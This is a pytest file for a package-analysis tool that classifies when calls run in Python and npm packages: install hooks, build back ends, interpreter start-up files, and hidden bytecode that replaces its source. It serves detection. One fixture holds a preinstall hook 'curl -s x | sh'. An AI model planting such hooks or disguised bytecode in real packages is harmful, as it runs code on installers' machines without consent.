"""A call's moment follows from the roots, through imports, calls, classes and started files."""

import importlib.util
import marshal
import sys

import pytest
from program_of import program_of, reaches

from ostiary.core.coverage import Reach
from ostiary.program.model import Behaviour


def test_an_installer_its_helpers_and_the_package() -> None:
    program = program_of(
        "sdist",
        {
            "setup.py": "import os\nimport helper\nimport sample\nfrom setuptools import setup\n"
            "from setuptools.command.install import install\nhelper.run()\nsample.call()\n"
            "class I(install):\n    def run(self):\n        self.go()\n"
            "    def go(self):\n        os.system('command')\n"
            "class R(install):\n    def run(self):\n        os.system('release')\n"
            "setup(cmdclass={'install': I, 'release': R})\n"
            "if __name__ == '__main__':\n    os.system('main')\n",
            "helper.py": "import os\ndef run():\n    os.system('helper')\ndef no():\n    os.system('idle')\n",
            "sample/__init__.py": "import os\nos.system('package')\ndef call():\n    os.system('called')\n"
            "if __name__ == '__main__':\n    os.system('script')\n",
            "tests/test_x.py": "import os\nos.system('test')\n",
        },
    )
    assert reaches(program) == {
        "command": Reach.INSTALL,
        "release": Reach.CALL,
        "main": Reach.INSTALL,
        "helper": Reach.INSTALL,
        "idle": Reach.CALL,
        "package": Reach.IMPORT,
        "called": Reach.IMPORT,
        "script": Reach.CALL,
        "test": Reach.TEST,
    }


def test_a_build_back_end_in_the_tree() -> None:
    program = program_of(
        "sdist",
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "own"\n'
            'backend-path = ["tools"]\n',
            "tools/own.py": "import os\ndef build_wheel(*a):\n    os.system('hook')\n"
            "def x():\n    os.system('idle')\n",
        },
    )
    assert reaches(program) == {"hook": Reach.INSTALL, "idle": Reach.CALL}


def test_start_of_the_interpreter() -> None:
    program = program_of(
        "wheel",
        {
            "sample.pth": "import os; os.system('line')\nimport sample_start\n",
            "sample_start.py": "import os\nos.system('module')\n",
            "sitecustomize.py": "import os\nos.system('site')\n",
            "sample/__init__.py": "",
        },
    )
    assert reaches(program) == dict.fromkeys(("line", "module", "site"), Reach.START)


def test_classes_callbacks_and_reexports() -> None:
    program = program_of(
        "wheel",
        {
            "sample/__init__.py": "from .a import A, go\nA()\ngo()\n",
            "sample/a.py": "import os, atexit\nfrom .b import go\nclass A:\n    os.system('body')\n"
            "    def __init__(self):\n        os.system('init')\n"
            "    def m(self):\n        os.system('idle')\n"
            "@atexit.register\ndef bye():\n    os.system('exit')\n",
            "sample/b.py": "import os\ndef go():\n    os.system('passed on')\n",
        },
    )
    assert reaches(program) == {
        "body": Reach.IMPORT,
        "init": Reach.IMPORT,
        "idle": Reach.CALL,
        "exit": Reach.IMPORT,
        "passed on": Reach.IMPORT,
    }


def test_npm_hooks_main_and_bin() -> None:
    program = program_of(
        "npm",
        {
            "package.json": '{"name": "sample", "version": "1.0.0", "main": "./lib", "bin": "bin/x.js",'
            ' "scripts": {"postinstall": "node scripts/i.js", "test": "node t.js"}}',
            "scripts/i.js": "require('./h').go(); require('child_process').exec('hook')",
            "scripts/h.js": "exports.go = () => require('child_process').exec('helper')",
            "lib/index.js": "const {exec} = require('child_process'); (() => exec('main'))();"
            "exports.f = () => exec('idle')",
            "bin/x.js": "require('child_process').exec('program')",
            "test/t.js": "require('child_process').exec('test')",
        },
    )
    assert reaches(program) == {
        "hook": Reach.INSTALL,
        "helper": Reach.INSTALL,
        "main": Reach.IMPORT,
        "idle": Reach.CALL,
        "program": Reach.CALL,
        "test": Reach.TEST,
    }


def test_a_hook_that_runs_text() -> None:
    program = program_of(
        "npm",
        {
            "package.json": '{"name": "sample", "version": "1.0.0",'
            ' "scripts": {"preinstall": "node a.txt; curl -s x | sh"}}',
            "a.txt": "some words",
        },
    )
    assert [(one.path, one.program, one.known) for one in program.started] == [
        ("package/a.txt", "node", False)
    ]
    assert reaches(program, Behaviour.NETWORK) == {"curl": Reach.INSTALL}


def test_the_order_of_files_changes_nothing() -> None:
    files = {
        "sample/__init__.py": "from .a import *\nimport os\nos.system('x')\n",
        "sample/a.py": "import os\nos.system('y')\ndef f(): eval('z')\n",
        "sample/b.py": "import os\nos.system('w'); os.popen(None)\n",
    }
    assert program_of("wheel", files) == program_of("wheel", dict(reversed(files.items())))


NPM = '{"name": "sample", "version": "1.0.0", "main": "./lib", "exports": {"./*": "./open/*.js"}}'


def run(word: str) -> str:
    return f"require('child_process').exec('{word}');\n"


def test_what_the_manifest_names_is_imported_and_the_rest_is_called() -> None:
    files = {
        "package.json": NPM,
        "lib/index.js": "require('../deep'); require('sample/own');",
        "deep.js": run("required"),
        "own.js": run("by its own name"),
        "open/a.js": run("exported"),
        "other.js": run("other"),
    }
    program = program_of("npm", files)
    assert reaches(program) == {
        "required": Reach.IMPORT,
        "by its own name": Reach.IMPORT,
        "exported": Reach.IMPORT,
        "other": Reach.CALL,
    }
    files["lib/index.js"] += "require('../' + process.argv[2])"
    other = next(one for one in program_of("npm", files).calls if one.arguments[:1] == ("other",))
    assert (other.reach, other.deep) == (Reach.IMPORT, True)


def test_only_what_an_import_of_the_package_loads_has_full_weight() -> None:
    files = {
        "sample/__init__.py": "from . import near\n",
        "sample/near.py": "import os\nos.system('near')\n",
        "sample/far.py": "import os\nos.system('far')\n",
        "sample/sub/__init__.py": "import os\nos.system('sub')\n",
        "top.py": "import os\nos.system('top')\n",
        "entered.py": "",
        "names/space/mod.py": "import os\nos.system('space')\n",
    }
    program = program_of("wheel", files)
    assert (
        {one.arguments[0]: one.deep for one in program.calls}
        == {
            "near": False,
            "far": True,
            "sub": True,
            "top": False,
            "space": True,  # whoever imports the package of the release does not import what lies beside it
        }
    )
    loose = program_of("wheel", {"names/space/mod.py": files["names/space/mod.py"]})
    assert [one.deep for one in loose.calls] == [False]
    files["sample/__init__.py"] = "import importlib\nfor n in x:\n    importlib.import_module(n)\n"
    deep = {one.arguments[0] for one in program_of("wheel", files).calls if one.deep}
    assert deep == {"space"}


def test_types_and_broken_files_that_nothing_names_do_not_run() -> None:
    broken = "def (((:\n  ))) = [\n" * 20
    files = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "data/broken.py": broken,
        "sample/__init__.py": "a = 1\n",
        "sample/a.pyi": "def f() -> int: ...\n",
        "sample/broken.py": broken,
    }
    assert {one.path[11:]: one.reach for one in program_of("sdist", files).modules} == {
        "setup.py": Reach.INSTALL,
        "data/broken.py": Reach.DATA,
        "sample/__init__.py": Reach.IMPORT,
        "sample/a.pyi": Reach.DATA,
        "sample/broken.py": Reach.IMPORT,
    }
    files["setup.py"] = "exec(open('data/broken.py').read())\n"
    told = {one.path[11:]: one.reach for one in program_of("sdist", files).modules}
    assert told["data/broken.py"] is Reach.INSTALL
    files["setup.py"] = "import sys\nexec(open(sys.argv[3]).read())\n"
    told = {one.path[11:]: one.reach for one in program_of("sdist", files).modules}
    assert told["data/broken.py"] is Reach.CALL


def test_folders_of_tests_bear_many_names() -> None:
    for folder in ("manual tests", "test-data", "testcases", "unit_tests", "integration-tests"):
        program = program_of("npm", {f"{folder}/a.js": run("x")})
        assert reaches(program) == {"x": Reach.TEST}
    assert reaches(program_of("npm", {"latest/a.js": run("x")})) == {"x": Reach.CALL}


RUNS = "import os\nos.system('x')\n"
SETUP = "from setuptools import setup\nsetup(name='sample', packages=['{name}'])\n"


@pytest.mark.parametrize("name", ["demo", "tests", "examples", "docs", "bench", "fixtures"])
@pytest.mark.parametrize("above", ["", "src/"])
def test_a_package_that_bears_the_name_of_a_folder_for_tests_is_installed(
    name: str, above: str
) -> None:
    files = {"setup.py": SETUP.format(name=name), f"{above}{name}/__init__.py": RUNS}
    assert reaches(program_of("sdist", files)) == {"x": Reach.IMPORT}
    files[f"{above}{name}/inner.py"] = "import os\nos.system('y')\n"
    files["conftest.py"] = ""
    assert reaches(program_of("sdist", files))["x"] is Reach.IMPORT


@pytest.mark.parametrize(
    "beside",
    [
        *("sample/__init__.py", "src/sample/__init__.py", "lib/sample/__init__.py"),
        *("sample.py", "src/sample.py", "other/__init__.py"),
    ],
)
def test_beside_the_package_it_is_one_for_tests(beside: str) -> None:
    files = {"tests/__init__.py": RUNS, beside: ""}
    assert reaches(program_of("sdist", files)) == {"x": Reach.TEST}


@pytest.mark.parametrize("name", ["__init__", "inner"])
def test_bytecode_that_says_something_else_runs_in_the_place_of_its_source(name: str) -> None:
    text = "import os\nos.system('hidden')\n"
    code = marshal.dumps(compile(text, name, "exec"))
    cached = f"sample/__pycache__/{name}.{sys.implementation.cache_tag}.pyc"
    files: dict[str, str | bytes] = {
        "sample/__init__.py": "from . import inner\n",
        "sample/inner.py": "X = 1\n",
        cached: importlib.util.MAGIC_NUMBER + b"\1\0\0\0" + bytes(8) + code,
    }
    assert reaches(program_of("wheel", files)) == {"hidden": Reach.IMPORT}


def test_bytecode_that_says_the_same_is_left_alone() -> None:
    text = "import os\ndef f():\n    os.system('said')\nf()\n"
    code = marshal.dumps(compile(text, "sample", "exec"))
    program = program_of(
        "wheel",
        {
            "sample/__init__.py": text,
            f"sample/__pycache__/__init__.{sys.implementation.cache_tag}.pyc": importlib.util.MAGIC_NUMBER
            + bytes(12)
            + code,
        },
    )
    told = {one.at.path: one.reach for one in program.flows}
    assert told["sample/__init__.py"] is Reach.IMPORT
    assert set(told.values()) <= {Reach.IMPORT, Reach.CALL}
